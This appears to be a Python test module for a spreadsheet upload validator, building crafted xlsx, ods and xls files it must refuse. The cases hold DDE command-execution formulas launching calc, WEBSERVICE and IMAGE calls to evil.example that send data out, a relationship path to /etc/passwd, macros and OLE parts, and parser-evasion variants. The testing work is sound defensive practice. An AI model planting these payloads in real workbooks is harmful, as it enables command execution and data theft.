"""Nothing executable in: DDE, RTD, web and info formulas, external links, OLE objects, macros,
duplicate entries and relationships leading out of the package — refused however they are written
(namespace prefixes, cells without ``r=``, single-quoted attributes, a duplicate zip entry)."""

from __future__ import annotations

import io
import re
import zipfile

from cases_bombs import good_entries, raw_zip, with_extra_sheet
from hostile import ROOT, Accept, Case, Refuse, good_bytes, patch_zip, sheet_member, write_bytes

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DDE = "cmd|' /C calc'!A0"
_ODS = ROOT / "tests" / "corpus" / "real" / "files" / "file_ods_workbook.ods"


def _info_sheet() -> str:
    return sheet_member(good_bytes(), "제출정보")


def _info_row(cell: str) -> bytes:
    """The valid workbook with one more row in 제출정보 holding ``cell`` (raw XML)."""
    return patch_zip(good_bytes(), replace={_info_sheet(): lambda b: b.replace(
        b"</sheetData>", f'<row r="6">{cell}</row></sheetData>'.encode())})


def _formula(text: str, value: str = "0") -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return _info_row(f'<c r="C6"><f>{escaped}</f><v>{value}</v></c>')


def _prefixed() -> bytes:
    """제출정보 rewritten with an ``x:`` namespace prefix on every element, DDE in a cell."""
    def rewrite(data: bytes) -> bytes:
        xml = data.decode().replace("</sheetData>", f'<row r="6"><c r="C6"><f>{_DDE.replace(chr(39), "&apos;")}'
                                    "</f><v>0</v></c></row></sheetData>")
        xml = re.sub(r"<(/?)([A-Za-z]\w*)", r"<\1x:\2", xml)
        return xml.replace(f'<x:worksheet xmlns="{_MAIN}"', f'<x:worksheet xmlns:x="{_MAIN}"').encode()

    return patch_zip(good_bytes(), replace={_info_sheet(): rewrite})


def _single_quoted() -> bytes:
    return _info_row(f"<c r='C6' t='n'><f>{_DDE.replace(chr(39), '&apos;')}</f><v>0</v></c>")


def _duplicate_entry() -> bytes:
    """Two entries named like 제출정보's part: the first holds DDE, the second is clean."""
    member = _info_sheet()
    entries = []
    for name, data in good_entries():
        if name == member:
            entries.append((name, data.replace(b"</sheetData>", b'<row r="6"><c r="C6"><f>cmd|\' /C calc\'!A0</f>'
                                               b"<v>0</v></c></row></sheetData>")))
        entries.append((name, data))
    return raw_zip(entries)


def _add_part(name: str, data: bytes, rel: tuple[str, str, str] | None = None,
              rels_of: str = "xl/_rels/workbook.xml.rels") -> bytes:
    """The valid workbook with a part added, and a relationship (type, target, mode) from ``rels_of``."""
    entries = list(good_entries())
    if rel:
        kind, target, mode = rel
        mode_attr = f' TargetMode="{mode}"' if mode else ""
        line = f'<Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}"{mode_attr}/>'.encode()
        names = [n for n, _ in entries]
        if rels_of in names:
            entries = [(n, d.replace(b"</Relationships>", line + b"</Relationships>") if n == rels_of else d)
                       for n, d in entries]
        else:
            entries.append((rels_of, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                            b'relationships">' + line + b"</Relationships>"))
    if name:
        entries.append((name, data))
    return raw_zip(entries)


def _sheet_rels() -> str:
    folder, base = _info_sheet().rsplit("/", 1)
    return f"{folder}/_rels/{base}.rels"


def _workbook_xml(change) -> bytes:
    return patch_zip(good_bytes(), replace={"xl/workbook.xml": change})


def _defined_name() -> bytes:
    return _workbook_xml(lambda b: b.replace(b"<definedNames />", b'<definedNames><definedName name="x">'
                                             b"cmd|' /C calc'!A0</definedName></definedNames>"))


def _sheet_extra(xml: str) -> bytes:
    """제출정보 with ``xml`` after its sheetData (data validation, conditional formats, hyperlinks)."""
    return patch_zip(good_bytes(), replace={_info_sheet(): lambda b: b.replace(b"</sheetData>",
                                                                                f"</sheetData>{xml}".encode())})


def _content_type_macro() -> bytes:
    return patch_zip(good_bytes(), replace={"[Content_Types].xml": lambda b: b.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")})


def _hyperlink() -> bytes:
    """A cell hyperlink to an https address (a relationship of the sheet, External mode): allowed."""
    sheet = _sheet_extra(f'<hyperlinks><hyperlink ref="A1" xmlns:r="{_REL}" r:id="rIdX"/></hyperlinks>')
    with zipfile.ZipFile(io.BytesIO(sheet)) as archive:
        entries = [(i.filename, archive.read(i)) for i in archive.infolist()]
    line = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdX" Type="{_REL}/hyperlink" Target="https://www.example.org/"'
            ' TargetMode="External"/></Relationships>').encode()
    return raw_zip(entries + [(_sheet_rels(), line)])


def _ods(change) -> bytes:
    with zipfile.ZipFile(_ODS) as archive:
        entries = [(i.filename, archive.read(i)) for i in archive.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name, data in change(entries):
            out.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _ods_macro() -> bytes:
    return _ods(lambda entries: entries + [("Basic/Standard/Module1.xml", b"<module>Sub Main\nShell(\"calc\")"
                                                                           b"\nEnd Sub</module>")])


def _ods_dde() -> bytes:
    def change(entries):
        out = []
        for name, data in entries:
            if name == "content.xml":
                data = data.replace(b"<office:spreadsheet>", b'<office:spreadsheet><table:dde-links><table:dde-link>'
                                    b'<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
                                    b'office:dde-item="A0"/></table:dde-link></table:dde-links>', 1)
            out.append((name, data))
        return out
    return _ods(change)


def _spreadsheetml_named_dde() -> bytes:
    return ('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
            'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Names><NamedRange ss:Name="x" '
            "ss:RefersTo=\"=cmd|' /C calc'!A0\"/></Names><Worksheet ss:Name=\"제출정보\"><Table><Row><Cell>"
            '<Data ss:Type="String">항목</Data></Cell></Row></Table></Worksheet></Workbook>').encode()


def _xlsx(name: str, data, outcome, note: str) -> Case:
    return Case(name, write_bytes("11110_2023.xlsx", data), outcome, note)


CASES = [
    _xlsx("dde_plain.xlsx", lambda: _formula(_DDE), Refuse("dangerous_formula"), "=cmd|' /C calc'!A0 in a cell"),
    _xlsx("dde_x_prefix.xlsx", _prefixed, Refuse("dangerous_formula"),
          "DDE in a sheet written with an x: namespace prefix"),
    _xlsx("dde_cell_without_r.xlsx", lambda: _info_row(f"<c><f>{_DDE.replace(chr(39), '&apos;')}</f><v>0</v></c>"),
          Refuse("dangerous_formula"), "DDE in a cell without r="),
    _xlsx("dde_single_quotes.xlsx", _single_quoted, Refuse("dangerous_formula"),
          "DDE in a cell whose attributes are single-quoted"),
    _xlsx("dde_duplicate_entry.xlsx", _duplicate_entry, Refuse("unsafe_workbook"),
          "two zip entries of one sheet; the first holds DDE"),
    _xlsx("dde_split_by_entity.xlsx", lambda: _info_row("<c r=\"C6\"><f>cmd&#124;' /C calc'!A0</f><v>0</v></c>"),
          Refuse("dangerous_formula"), "the DDE pipe written as a character reference &#124;"),
    _xlsx("rtd.xlsx", lambda: _formula('RTD("evil.server",,"topic")'), Refuse("dangerous_formula"),
          "RTD real-time data server call"),
    _xlsx("image_url.xlsx", lambda: _formula('_xlfn.IMAGE("http://evil.example/p.png")'),
          Refuse("dangerous_formula"), "IMAGE(url): a web beacon"),
    _xlsx("info_directory.xlsx", lambda: _formula('INFO("directory")'), Refuse("dangerous_formula"),
          "INFO discloses the machine"),
    _xlsx("cell_filename.xlsx", lambda: _formula('CELL("filename")'), Refuse("dangerous_formula"),
          "CELL(\"filename\") discloses the path"),
    _xlsx("webservice.xlsx", lambda: _formula('_xlfn.WEBSERVICE("http://evil.example/?"&A1)'),
          Refuse("dangerous_formula"), "WEBSERVICE sends a cell out"),
    _xlsx("external_reference.xlsx", lambda: _formula("[1]Sheet1!A1"), Refuse("dangerous_formula"),
          "a formula reading another workbook"),
    _xlsx("external_link_part.xlsx", lambda: _add_part(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode(),
        ("externalLink", "externalLinks/externalLink1.xml", "")), Refuse("unsafe_workbook"),
          "an external link part holding a ddeLink"),
    _xlsx("rel_outside_package.xlsx", lambda: _add_part("", b"", ("image", "../../../../etc/passwd", ""),
                                                        rels_of=_sheet_rels()),
          Refuse("unsafe_workbook"), "an internal relationship target outside the package"),
    _xlsx("rel_external_image.xlsx", lambda: _add_part("", b"", ("image", "http://evil.example/beacon.png",
                                                                 "External"), rels_of=_sheet_rels()),
          Refuse("unsafe_workbook"), "an externally linked picture (a web beacon)"),
    _xlsx("ole_object.xlsx", lambda: _add_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 508),
          Refuse("unsafe_workbook"), "an embedded OLE object"),
    _xlsx("activex_mixed_case.xlsx", lambda: _add_part("xl/ActiveX/activeX1.XML", b"<ax/>"),
          Refuse("unsafe_workbook"), "an ActiveX control part (mixed-case name)"),
    _xlsx("macro_content_type.xlsx", _content_type_macro, Refuse("unsafe_workbook"),
          "a macro-enabled workbook content type named .xlsx"),
    _xlsx("defined_name_dde.xlsx", _defined_name, Refuse("dangerous_formula"), "a defined name holding DDE"),
    _xlsx("validation_webservice.xlsx", lambda: _sheet_extra(
        '<dataValidations count="1"><dataValidation type="list" sqref="B2"><formula1>WEBSERVICE("http://evil.'
        'example/")</formula1></dataValidation></dataValidations>'), Refuse("dangerous_formula"),
          "a data validation list calling WEBSERVICE"),
    _xlsx("conditional_format_dde.xlsx", lambda: _sheet_extra(
        '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1"><formula>'
        "cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>"), Refuse("dangerous_formula"),
          "a conditional format holding DDE"),
    _xlsx("hidden_sheet_dde.xlsx", lambda: with_extra_sheet(
        f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1"><f>{_DDE.replace(chr(39), "&apos;")}</f>'
        "<v>0</v></c></row></sheetData></worksheet>".encode()), Refuse("dangerous_formula"),
          "DDE on an extra sheet"),
    Case("ods_basic_macro.ods", write_bytes("11110_2023.ods", _ods_macro), Refuse("unsafe_workbook"),
         "an .ods with a Basic macro module"),
    Case("ods_dde_link.ods", write_bytes("11110_2023.ods", _ods_dde), Refuse("unsafe_workbook"),
         "an .ods with a DDE link"),
    Case("spreadsheetml_named_dde.xls", write_bytes("11110_2023.xls", _spreadsheetml_named_dde),
         Refuse("dangerous_formula"), "Excel 2003 XML with a named range holding DDE"),
    _xlsx("fine_sum_formula.xlsx", lambda: patch_zip(good_bytes(), replace={_info_sheet(): lambda b: b.replace(
        b'<c r="B3" t="n"><v>2023</v></c>', b'<c r="B3" t="n"><f>SUM(2000,23)+LEN("a|b")*0</f><v>2023</v></c>')}),
          Accept(), "a plain formula with its stored value (a quoted '|' is text, not DDE)"),
    _xlsx("fine_https_hyperlink.xlsx", _hyperlink, Accept(), "a cell hyperlink to an https address"),
]
